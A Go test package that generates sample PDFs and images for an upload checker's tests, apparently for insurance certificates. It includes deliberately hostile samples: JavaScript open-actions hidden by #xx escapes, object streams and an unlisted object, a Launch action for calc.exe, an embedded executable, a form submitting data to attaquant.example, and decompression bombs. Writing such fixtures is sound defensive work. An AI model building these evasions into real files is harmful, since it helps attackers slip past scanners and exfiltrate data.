// Package samples makes files for the tests of the certificate's checks:
// a valid one-page PDF, and PDFs that hide JavaScript, launch actions or
// embedded files in the ways a reader would still run them (object
// streams, #xx escapes), truncated or encrypted ones, and images. Tests
// only: nothing in a function imports it.
package samples

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
)

// page is a one-page document's objects 1 (catalog, extra entries added),
// 2 (pages) and 3 (page), and a content stream 4.
func page(catalogExtra string) []string {
	content := "BT /F1 18 Tf 72 720 Td (Attestation d'assurance habitation) Tj ET"
	return []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " +
			"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content),
	}
}

// Classic writes objects 1..n (PDF object bodies) with a classic
// cross-reference table, trailerExtra added to the trailer's dictionary.
func Classic(objs []string, trailerExtra string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, trailerExtra, xref)
	return b.Bytes()
}

// PDF is a valid one-page PDF.
func PDF() []byte { return Classic(page(""), "") }

// JavaScriptPDF runs JavaScript when opened (/OpenAction).
func JavaScriptPDF() []byte {
	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /JavaScript /JS (app.alert\\('bonjour'\\)) >>")
	return Classic(objs, "")
}

// EscapedJavaScriptPDF writes the JavaScript action's names with #xx
// escapes (/J#61vaScript, /#4AS), which readers decode.
func EscapedJavaScriptPDF() []byte {
	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>")
	return Classic(objs, "")
}

// LaunchPDF starts a program when opened.
func LaunchPDF() []byte {
	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /Launch /F (calc.exe) >>")
	return Classic(objs, "")
}

// EmbeddedFilePDF carries a file in its names tree.
func EmbeddedFilePDF() []byte {
	data := "MZ not really a program"
	objs := append(page("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"),
		"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
		fmt.Sprintf("<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream", len(data), data))
	return Classic(objs, "")
}

// SubmitFormPDF sends its form's data to another site when opened.
func SubmitFormPDF() []byte {
	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/x) >> /Flags 4 >>")
	return Classic(objs, "")
}

// InflatingPDF is a valid PDF with a compressed stream of mib MiB of
// spaces, a thousand times smaller in the file.
func InflatingPDF(mib int) []byte {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	spaces := bytes.Repeat([]byte{' '}, 1<<20)
	for range mib {
		zw.Write(spaces)
	}
	zw.Close()
	objs := append(page(""), fmt.Sprintf("<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", z.Len(), z.Bytes()))
	return Classic(objs, "")
}

// TruncatedPDF is PDF cut in the middle, as an interrupted download leaves
// it.
func TruncatedPDF() []byte {
	b := PDF()
	return b[:len(b)*2/3]
}

// EncryptedPDF declares an encryption dictionary (RC4, 40 bits, keys that
// match no password): a reader asks for a password.
func EncryptedPDF() []byte {
	objs := append(page(""), "<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 "+
		"/O <"+strings.Repeat("41", 32)+"> /U <"+strings.Repeat("42", 32)+"> >>")
	return Classic(objs, "/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]")
}

// ObjectStreamPDF is a valid PDF 1.5 whose catalog, pages and page are in
// a compressed object stream, listed by a cross-reference stream; extra
// (say a JavaScript action, "/OpenAction 6 0 R" and its object) goes in
// the stream too, so that only a parser that decodes object streams sees
// it.
func ObjectStreamPDF(catalogExtra string, extra ...string) []byte {
	p := page(catalogExtra)
	compressed := append([]string{p[0], p[1], p[2]}, extra...) // objects 1..3, then 6.. (4 is the content, 5 the stream)
	nums := []int{1, 2, 3}
	for i := range extra {
		nums = append(nums, 6+i)
	}
	var header, body bytes.Buffer
	for i, o := range compressed {
		fmt.Fprintf(&header, "%d %d ", nums[i], body.Len())
		body.WriteString(o + "\n")
	}
	plain := header.String() + "\n" + body.String()
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte(plain))
	zw.Close()

	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	contentOff := b.Len()
	fmt.Fprintf(&b, "4 0 obj\n%s\nendobj\n", p[3])
	streamOff := b.Len()
	fmt.Fprintf(&b, "5 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n",
		len(compressed), header.Len()+1, z.Len())
	b.Write(z.Bytes())
	b.WriteString("\nendstream\nendobj\n")
	size := 6 + len(extra) + 1 // objects 0..5, the extras, and the xref stream
	xrefNr := size - 1
	xrefOff := b.Len()
	// Entries: type (1 byte), field 2 (4 bytes), field 3 (2 bytes).
	var rows bytes.Buffer
	row := func(t byte, f2 uint32, f3 uint16) {
		rows.WriteByte(t)
		binary.Write(&rows, binary.BigEndian, f2)
		binary.Write(&rows, binary.BigEndian, f3)
	}
	row(0, 0, 65535)
	inStream := map[int]int{}
	for i, n := range nums {
		inStream[n] = i
	}
	for n := 1; n < size; n++ {
		switch {
		case n == 4:
			row(1, uint32(contentOff), 0)
		case n == 5:
			row(1, uint32(streamOff), 0)
		case n == xrefNr:
			row(1, uint32(xrefOff), 0)
		default:
			row(2, 5, uint16(inStream[n]))
		}
	}
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n", xrefNr, size, rows.Len())
	b.Write(rows.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefOff)
	return b.Bytes()
}

// PNG is a small PNG photo.
func PNG() []byte {
	var b bytes.Buffer
	png.Encode(&b, picture(64, 48))
	return b.Bytes()
}

// JPEG is a small JPEG photo.
func JPEG() []byte {
	var b bytes.Buffer
	jpeg.Encode(&b, picture(64, 48), &jpeg.Options{Quality: 80})
	return b.Bytes()
}

func picture(w, h int) image.Image {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 4), uint8(y * 5), 128, 255})
		}
	}
	return img
}

// HugePNG is a small file that claims a w × h image: a decompression bomb
// (its header only; decoding it would allocate w × h × 4 bytes).
func HugePNG(w, h uint32) []byte {
	var b bytes.Buffer
	png.Encode(&b, picture(1, 1))
	raw := b.Bytes()
	// IHDR starts at byte 8: length (4), "IHDR" (4), width (4), height (4).
	binary.BigEndian.PutUint32(raw[16:], w)
	binary.BigEndian.PutUint32(raw[20:], h)
	crc := crc32.ChecksumIEEE(raw[12:29])
	binary.BigEndian.PutUint32(raw[29:], crc)
	return raw
}

// OrphanJavaScriptPDF holds a JavaScript action in an object that no
// cross-reference lists (after the end, as an incremental update without
// its table): a parser that trusts the table skips it, a reader that
// rebuilds the table finds it.
func OrphanJavaScriptPDF() []byte {
	return append(PDF(), "9 0 obj\n<< /S /JavaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n%%EOF\n"...)
}
